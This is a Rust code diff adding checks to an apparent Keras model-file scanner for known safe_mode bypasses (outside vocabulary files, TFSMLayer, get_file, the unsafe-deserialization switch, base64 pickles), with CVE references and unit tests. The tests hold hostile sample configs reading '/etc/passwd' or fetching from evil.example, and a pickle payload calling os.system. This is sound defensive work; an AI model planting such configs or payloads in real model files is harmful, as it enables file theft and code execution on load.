@@ -70,7 +70,83 @@ pub struct Facts {
     pub lambda_layers: Vec<String>,
     /// `module.class_name` of objects from outside the Keras packages.
     pub custom_objects: Vec<String>,
+    /// Serialized objects embedded in the config (base64 in a `TorchModuleWrapper`'s `module`,
+    /// or any long base64 string that decodes to a zip or pickle), for the pickle and archive
+    /// inspectors. Not a fact of its own: what they find is reported for them.
+    #[serde(skip)]
+    pub embedded: Vec<Embedded>,
 }
+
+/// A serialized object found inside a Keras config, decoded.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Embedded {
+    /// JSON path of the string that held it.
+    pub path: String,
+    /// The layer (or object) name around it, when known.
+    pub layer: String,
+    /// The decoded bytes.
+    pub bytes: Vec<u8>,
+}
+
+/// Most embedded objects decoded per document.
+const MAX_EMBEDDED: usize = 16;
+
+/// Shortest string tried as a base64 payload: shorter ones are names, not serialized objects.
+const MIN_EMBEDDED_CHARS: usize = 64;
+
+/// Advisories per safe-mode bypass sub-code (`evidence.references`).
+pub mod refs {
+    /// Lookup layers reading a vocabulary file named by the config.
+    pub const LOOKUP_FILE: &[&str] = &["CVE-2025-12058"];
+    /// `TFSMLayer` loading an external SavedModel.
+    pub const TFSM_LAYER: &[&str] = &["CVE-2026-1462"];
+    /// `keras.utils.get_file` called while the config is rebuilt.
+    pub const GET_FILE: &[&str] = &["CVE-2025-8747", "GHSA-c9rc-mg46-23w3"];
+    /// `enable_unsafe_deserialization` reached from a config.
+    pub const UNSAFE_DESERIALIZATION: &[&str] = &["CVE-2025-9906"];
+    /// `TorchModuleWrapper` unpickling its base64 `module`.
+    pub const TORCH_MODULE_WRAPPER: &[&str] = &["CVE-2025-49655"];
+}
+
+/// Lookup and vectorisation layers that read their vocabulary (or IDF weights) from a file when
+/// the config gives a path instead of a list.
+const LOOKUP_CLASSES: &[&str] = &[
+    "StringLookup",
+    "IndexLookup",
+    "IntegerLookup",
+    "TextVectorization",
+];
+
+/// Config keys of lookup layers that may hold a file path.
+const LOOKUP_KEYS: &[&str] = &[
+    "vocabulary",
+    "idf_weights",
+    "vocabulary_file",
+    "vocabulary_path",
+];
+
+/// Config keys that, in any layer, name a file or model the constructor opens.
+const FILE_KEYS: &[&str] = &[
+    "filepath",
+    "file_path",
+    "saved_model_dir",
+    "saved_model_path",
+    "export_dir",
+    "model_path",
+    "origin",
+];
+
+/// Keras (and TensorFlow) helpers that download or open files, or load another model, when a
+/// config names them as the class or function to rebuild: they live inside the `keras` package,
+/// so `safe_mode` lets them through.
+const FILE_HELPERS: &[&str] = &[
+    "get_file",
+    "load_model",
+    "load_img",
+    "image_dataset_from_directory",
+    "text_dataset_from_directory",
+    "audio_dataset_from_directory",
+];
 
 /// `metadata.json` of a Keras 3 archive.
 #[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
@@ -194,7 +270,11 @@ fn walk(root: &Value, limits: &Limits, facts: &mut Facts) -> Vec<Problem> {
                     ));
                 }
             }
+            Value::String(text) => check_string(text, &path, limits, facts, &mut problems),
             Value::Object(map) => {
+                for key in map.keys() {
+                    check_unsafe_switch(key, &path, &mut problems);
+                }
                 // A lambda's own config (its module, its code) is reported once, not again.
                 if !check_object(
                     map,
@@ -329,6 +409,9 @@ fn check_object(
                 problem = problem.with("function", excerpt(named, 200));
             }
             problems.push(problem);
+            if let Some(named) = named {
+                check_helper(named, module, name, at, problems);
+            }
             return false;
         }
         Some("__lambda__") => {
@@ -365,9 +448,13 @@ fn check_object(
         }
         _ => {}
     }
+    check_bypasses(map, class_name, name, path, limits, facts, problems);
     let module = map.get("module").and_then(Value::as_str);
     let registered = map.get("registered_name").and_then(Value::as_str);
     let outside = match (module, registered) {
+        // A serialized object names its class; a bare `module` key is a layer argument (the
+        // base64 payload of a TorchModuleWrapper, checked above).
+        (Some(_), None) if class_name.is_none() => false,
         (Some(module), _) => !is_keras_module(module),
         // `package>Name` is how Keras 3 records a registered custom object.
         (None, Some(reg)) => reg
@@ -402,6 +489,270 @@ fn check_object(
         problems.push(problem);
     }
     true
+}
+
+/// Whether a path given in a config reaches outside the model archive: `url`, `absolute` or
+/// `traversal`; `None` for a relative path inside it (an `assets/` vocabulary).
+pub fn outside_path(path: &str) -> Option<&'static str> {
+    let p = path.trim();
+    let bytes = p.as_bytes();
+    if p.contains("://") {
+        return Some("url");
+    }
+    let drive = bytes.len() >= 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':';
+    if p.starts_with(['/', '\\', '~']) || drive {
+        return Some("absolute");
+    }
+    if p.split(['/', '\\']).any(|c| c == "..") {
+        return Some("traversal");
+    }
+    None
+}
+
+fn unsafe_problem(code: &'static str, message: String, at: &str, refs: &[&str]) -> Problem {
+    let mut p =
+        Problem::new(ProblemKind::Unsafe, code, message, None).with("path", excerpt(at, 200));
+    if !refs.is_empty() {
+        p = p.with("references", refs.join(","));
+    }
+    p
+}
+
+/// The Keras `safe_mode` bypasses that need no code outside Keras: lookup layers and file keys
+/// reading paths outside the archive, `TFSMLayer`, file helpers named as classes or functions,
+/// `TorchModuleWrapper`'s pickled module.
+fn check_bypasses(
+    map: &serde_json::Map<String, Value>,
+    class_name: Option<&str>,
+    name: &str,
+    path: &str,
+    limits: &Limits,
+    facts: &mut Facts,
+    problems: &mut Vec<Problem>,
+) {
+    let at = if path.is_empty() { "/" } else { path };
+    let config = map.get("config");
+    let config_map = config.and_then(Value::as_object);
+    let class = class_name.unwrap_or("");
+    let module = map.get("module").and_then(Value::as_str);
+    if let Some(cfg) = config_map {
+        // CVE-2025-12058: `vocabulary: "/etc/passwd"` (or a URL) is read at load, safe mode or not.
+        if LOOKUP_CLASSES.contains(&class) {
+            for key in LOOKUP_KEYS {
+                let Some(Value::String(value)) = cfg.get(*key) else {
+                    continue;
+                };
+                let Some(how) = outside_path(value) else {
+                    continue;
+                };
+                let message = format!(
+                    "{class} layer '{}' at {at} reads its `{key}` from {how} path '{}' when loaded",
+                    excerpt(name, 200),
+                    excerpt(value, 200)
+                );
+                problems.push(
+                    unsafe_problem("lookup-file", message, at, refs::LOOKUP_FILE)
+                        .with("layer", excerpt(name, 200))
+                        .with("key", *key)
+                        .with("file", excerpt(value, 200)),
+                );
+            }
+        }
+        // CVE-2026-1462: TFSMLayer loads (and later runs) whatever SavedModel `filepath` names.
+        if class == "TFSMLayer" {
+            let file = cfg.get("filepath").and_then(Value::as_str).unwrap_or("?");
+            let message = format!(
+                "TFSMLayer '{}' at {at} loads the external SavedModel '{}' when the model is loaded",
+                excerpt(name, 200),
+                excerpt(file, 200)
+            );
+            problems.push(
+                unsafe_problem("external-savedmodel", message, at, refs::TFSM_LAYER)
+                    .with("layer", excerpt(name, 200))
+                    .with("file", excerpt(file, 200)),
+            );
+        } else {
+            for key in FILE_KEYS {
+                let Some(Value::String(value)) = cfg.get(*key) else {
+                    continue;
+                };
+                let Some(how) = outside_path(value) else {
+                    continue;
+                };
+                let message = format!(
+                    "{} '{}' at {at} opens {how} path '{}' (config key `{key}`) when loaded",
+                    excerpt(if class.is_empty() { "object" } else { class }, 100),
+                    excerpt(name, 200),
+                    excerpt(value, 200)
+                );
+                problems.push(
+                    unsafe_problem("external-file", message, at, &[])
+                        .with("layer", excerpt(name, 200))
+                        .with("key", *key)
+                        .with("file", excerpt(value, 200)),
+                );
+            }
+        }
+        if let Some(Value::String(function)) = cfg.get("function") {
+            check_helper(function, module, name, at, problems);
+        }
+        // CVE-2025-49655: the wrapped torch module is `torch.load`ed from base64 in the config.
+        if class == "TorchModuleWrapper" {
+            let module_path = child_path(&child_path(path, "config"), "module");
+            let payload = cfg.get("module").and_then(Value::as_str).unwrap_or("");
+            let decoded = decode_payload(payload, limits);
+            let message = format!(
+                "TorchModuleWrapper '{}' at {at} carries a serialized torch module ({} bytes) that torch.load unpickles when the model is loaded",
+                excerpt(name, 200),
+                decoded.as_ref().map_or(0, Vec::len)
+            );
+            problems.push(
+                unsafe_problem("embedded-object", message, at, refs::TORCH_MODULE_WRAPPER)
+                    .with("layer", excerpt(name, 200))
+                    .with("class_name", "TorchModuleWrapper"),
+            );
+            if let Some(bytes) = decoded {
+                push_embedded(facts, module_path, name, bytes);
+            }
+        }
+    }
+    // CVE-2025-8747: `{"module": "keras.utils", "class_name": "get_file", "config": {...}}` or a
+    // function object naming it; the object is rebuilt by calling it.
+    let mut named: Vec<&str> = vec![class];
+    if let Some(Value::String(c)) = config {
+        named.push(c);
+    }
+    if let Some(r) = map.get("registered_name").and_then(Value::as_str) {
+        named.push(r);
+    }
+    for candidate in named {
+        if check_helper(candidate, module, name, at, problems) {
+            break;
+        }
+    }
+}
+
+/// Reports a reference to a file/download helper; returns whether it was one.
+fn check_helper(
+    reference: &str,
+    module: Option<&str>,
+    layer: &str,
+    at: &str,
+    problems: &mut Vec<Problem>,
+) -> bool {
+    let last = reference.rsplit(['.', '>', ':']).next().unwrap_or("");
+    if !FILE_HELPERS.contains(&last) {
+        return false;
+    }
+    let callable = match module {
+        Some(m) if !reference.contains(['.', '>']) => format!("{m}.{reference}"),
+        _ => reference.to_owned(),
+    };
+    let refs: &[&str] = if last == "get_file" {
+        refs::GET_FILE
+    } else {
+        &[]
+    };
+    let message = format!(
+        "config at {at} calls '{}' while the model is rebuilt (downloads or opens files; safe_mode does not stop keras' own helpers)",
+        excerpt(&callable, 200)
+    );
+    problems.push(
+        unsafe_problem("file-helper", message, at, refs)
+            .with("layer", excerpt(layer, 200))
+            .with("callable", excerpt(&callable, 200)),
+    );
+    true
+}
+
+/// CVE-2025-9906: a config that names `enable_unsafe_deserialization` turns safe mode off for
+/// the rest of the load (a later Lambda then runs).
+fn check_unsafe_switch(text: &str, path: &str, problems: &mut Vec<Problem>) {
+    if !text.contains("enable_unsafe_deserialization") {
+        return;
+    }
+    let at = if path.is_empty() { "/" } else { path };
+    let message = format!(
+        "config at {at} names '{}', which turns keras safe_mode off during the load",
+        excerpt(text, 200)
+    );
+    problems.push(
+        unsafe_problem(
+            "unsafe-deserialization",
+            message,
+            at,
+            refs::UNSAFE_DESERIALIZATION,
+        )
+        .with("callable", excerpt(text, 200)),
+    );
+}
+
+/// Every string: the safe-mode switch, and base64 payloads that decode to a zip or a pickle
+/// (serialized objects a custom layer would unpickle).
+fn check_string(
+    text: &str,
+    path: &str,
+    limits: &Limits,
+    facts: &mut Facts,
+    problems: &mut Vec<Problem>,
+) {
+    check_unsafe_switch(text, path, problems);
+    if text.len() < MIN_EMBEDDED_CHARS || facts.embedded.iter().any(|e| e.path == path) {
+        return;
+    }
+    // Decode a prefix first: most long strings are not payloads.
+    let head = text.get(..12).unwrap_or("");
+    let Ok(prefix) = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, head)
+    else {
+        return;
+    };
+    if !is_serialized(&prefix) {
+        return;
+    }
+    let Some(bytes) = decode_payload(text, limits) else {
+        return;
+    };
+    let at = if path.is_empty() { "/" } else { path };
+    let kind = if bytes.starts_with(b"PK") {
+        "zip archive"
+    } else {
+        "pickle"
+    };
+    let message = format!(
+        "config string at {at} is a base64 {kind} ({} bytes) that a custom layer would deserialize",
+        bytes.len()
+    );
+    problems.push(unsafe_problem("embedded-object", message, at, &[]));
+    push_embedded(facts, path.to_owned(), "", bytes);
+}
+
+/// A zip local header or a pickle PROTO 2..5 opcode.
+fn is_serialized(bytes: &[u8]) -> bool {
+    bytes.starts_with(b"PK\x03\x04")
+        || (bytes.first() == Some(&0x80) && matches!(bytes.get(1), Some(2..=5)))
+}
+
+/// Decodes standard base64 (padded or not), bounded by the config size limit.
+fn decode_payload(text: &str, limits: &Limits) -> Option<Vec<u8>> {
+    use base64::Engine;
+    if text.len() > limits.max_config_bytes {
+        return None;
+    }
+    let text = text.trim();
+    base64::engine::general_purpose::STANDARD
+        .decode(text)
+        .or_else(|_| base64::engine::general_purpose::STANDARD_NO_PAD.decode(text))
+        .ok()
+}
+
+fn push_embedded(facts: &mut Facts, path: String, layer: &str, bytes: Vec<u8>) {
+    if facts.embedded.len() < MAX_EMBEDDED {
+        facts.embedded.push(Embedded {
+            path,
+            layer: layer.to_owned(),
+            bytes,
+        });
+    }
 }
 
 #[cfg(test)]
@@ -551,6 +902,124 @@ mod tests {
         .unwrap();
         assert_eq!(meta.keras_version.as_deref(), Some("3.3.3"));
         assert!(parse_metadata(b"nope", &Limits::default()).is_err());
+    }
+
+    fn evidence<'a>(p: &'a Problem, key: &str) -> Option<&'a str> {
+        p.evidence.get(key).map(String::as_str)
+    }
+
+    /// Issue 17, CVE-2025-12058: lookup layers whose vocabulary is a file outside the archive.
+    #[test]
+    fn issue_17_lookup_vocabulary_outside_archive_is_unsafe() {
+        let json = r#"{"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": [
+            {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "lk", "vocabulary": "/etc/passwd"}},
+            {"module": "keras.layers", "class_name": "TextVectorization", "config": {"name": "tv", "vocabulary": "https://evil.example/v.txt"}},
+            {"module": "keras.layers", "class_name": "IntegerLookup", "config": {"name": "il", "vocabulary": "assets/../../secret"}},
+            {"module": "keras.layers", "class_name": "IndexLookup", "config": {"name": "ix", "vocabulary": null, "idf_weights": "C:\\w.npy"}}
+        ]}}"#;
+        let (_, problems) = check_config(json.as_bytes(), &Limits::default());
+        assert_eq!(codes(&problems), ["lookup-file"; 4]);
+        assert!(problems.iter().all(|p| p.kind == ProblemKind::Unsafe));
+        assert_eq!(evidence(&problems[0], "layer"), Some("lk"));
+        assert_eq!(evidence(&problems[0], "file"), Some("/etc/passwd"));
+        assert_eq!(evidence(&problems[0], "references"), Some("CVE-2025-12058"));
+        assert_eq!(evidence(&problems[3], "key"), Some("idf_weights"));
+    }
+
+    #[test]
+    fn in_archive_vocabularies_are_clean() {
+        let json = r#"{"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": [
+            {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "a", "vocabulary": ["cat", "dog"]}},
+            {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "b", "vocabulary": "assets/vocab.txt"}},
+            {"module": "keras.layers", "class_name": "TextVectorization", "config": {"name": "c", "vocabulary": null, "idf_weights": null}}
+        ]}}"#;
+        let (_, problems) = check_config(json.as_bytes(), &Limits::default());
+        assert!(problems.is_empty(), "{problems:?}");
+    }
+
+    /// Issue 17, CVE-2026-1462: TFSMLayer loads an external SavedModel; other layers' file keys.
+    #[test]
+    fn issue_17_tfsm_layer_and_external_files_are_unsafe() {
+        let json = r#"{"class_name": "Sequential", "config": {"layers": [
+            {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "sm", "filepath": "exported", "call_endpoint": "serve"}},
+            {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "filepath": "/tmp/x.h5"}}
+        ]}}"#;
+        let (_, problems) = check_config(json.as_bytes(), &Limits::default());
+        assert_eq!(codes(&problems), ["external-savedmodel", "external-file"]);
+        assert_eq!(evidence(&problems[0], "file"), Some("exported"));
+        assert_eq!(evidence(&problems[0], "references"), Some("CVE-2026-1462"));
+        assert_eq!(evidence(&problems[1], "key"), Some("filepath"));
+    }
+
+    /// Issue 17, CVE-2025-8747 and CVE-2025-9906: keras' own file helpers and the safe-mode switch.
+    #[test]
+    fn issue_17_file_helpers_and_unsafe_switch_are_unsafe() {
+        let json = r#"{"class_name": "Sequential", "config": {"layers": [
+            {"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x", "origin": "http://evil.example/p"}},
+            {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d",
+              "activation": {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function"}}}
+        ]}}"#;
+        let (_, problems) = check_config(json.as_bytes(), &Limits::default());
+        let c = codes(&problems);
+        assert!(c.contains(&"file-helper"), "{c:?}");
+        assert!(c.contains(&"unsafe-deserialization"), "{c:?}");
+        assert!(c.contains(&"external-file"), "{c:?}");
+        let helper = problems.iter().find(|p| p.code == "file-helper").unwrap();
+        assert_eq!(evidence(helper, "callable"), Some("keras.utils.get_file"));
+        assert_eq!(
+            evidence(helper, "references"),
+            Some("CVE-2025-8747,GHSA-c9rc-mg46-23w3")
+        );
+        let switch = problems
+            .iter()
+            .find(|p| p.code == "unsafe-deserialization")
+            .unwrap();
+        assert_eq!(evidence(switch, "references"), Some("CVE-2025-9906"));
+    }
+
+    /// Issue 17, CVE-2025-49655: the wrapped torch module is decoded for the pickle inspector.
+    #[test]
+    fn issue_17_torch_module_wrapper_payload_is_decoded() {
+        use base64::Engine;
+        let payload = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00idq\x00\x85R.";
+        let b64 = base64::engine::general_purpose::STANDARD.encode(payload);
+        let json = format!(
+            r#"{{"class_name": "Sequential", "config": {{"layers": [
+            {{"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {{"name": "tw", "module": "{b64}"}}}}]}}}}"#
+        );
+        let (facts, problems) = check_config(json.as_bytes(), &Limits::default());
+        assert_eq!(codes(&problems), ["embedded-object"]);
+        assert_eq!(evidence(&problems[0], "layer"), Some("tw"));
+        assert_eq!(evidence(&problems[0], "references"), Some("CVE-2025-49655"));
+        assert_eq!(facts.embedded.len(), 1);
+        assert_eq!(facts.embedded[0].bytes, payload);
+        assert_eq!(facts.embedded[0].path, "/config/layers/0/config/module");
+    }
+
+    #[test]
+    fn base64_pickle_in_any_layer_is_decoded_and_plain_strings_are_not() {
+        use base64::Engine;
+        let mut payload = b"\x80\x04\x95".to_vec();
+        payload.extend([b'A'; 80]);
+        let b64 = base64::engine::general_purpose::STANDARD.encode(&payload);
+        let plain = "a".repeat(100);
+        let json = format!(
+            r#"{{"class_name": "Sequential", "config": {{"layers": [
+            {{"module": "keras.layers", "class_name": "Dense", "config": {{"name": "d", "blob": "{b64}", "note": "{plain}"}}}}]}}}}"#
+        );
+        let (facts, problems) = check_config(json.as_bytes(), &Limits::default());
+        assert_eq!(codes(&problems), ["embedded-object"]);
+        assert_eq!(facts.embedded.len(), 1);
+        assert_eq!(facts.embedded[0].bytes, payload);
+    }
+
+    #[test]
+    fn outside_path_names_how() {
+        assert_eq!(outside_path("/etc/passwd"), Some("absolute"));
+        assert_eq!(outside_path("gs://b/v"), Some("url"));
+        assert_eq!(outside_path("a/../../b"), Some("traversal"));
+        assert_eq!(outside_path("~/.ssh/id_rsa"), Some("absolute"));
+        assert_eq!(outside_path("assets/vocab.txt"), None);
     }
 
     proptest::proptest! {
